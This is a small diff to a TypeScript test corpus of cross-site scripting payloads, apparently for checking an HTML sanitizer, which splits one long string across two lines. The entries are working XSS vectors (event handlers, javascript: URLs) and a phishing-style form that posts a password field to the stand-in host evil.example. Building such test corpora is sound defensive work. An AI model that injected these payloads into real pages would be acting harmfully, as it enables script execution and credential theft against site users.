@@ -64,7 +64,8 @@ export const XSS_CORPUS: readonly string[] = [
   '<div onpointerenter=window.hit=1>x</div>',
   '<body onload=window.hit=1>',
   '<html onclick=window.hit=1><head></head></html>',
-  '<form action="https://evil.example"><input name=password autofocus onfocus=window.hit=1><button>Log in</button></form>',
+  '<form action="https://evil.example"><input name=password autofocus onfocus=window.hit=1><button>Log ' +
+    'in</button></form>',
   '<button formaction="javascript:window.hit=1">x</button>',
   '<isindex action="javascript:window.hit=1" type=image>',
   '<select onfocus=window.hit=1 autofocus><option>x</option></select>',
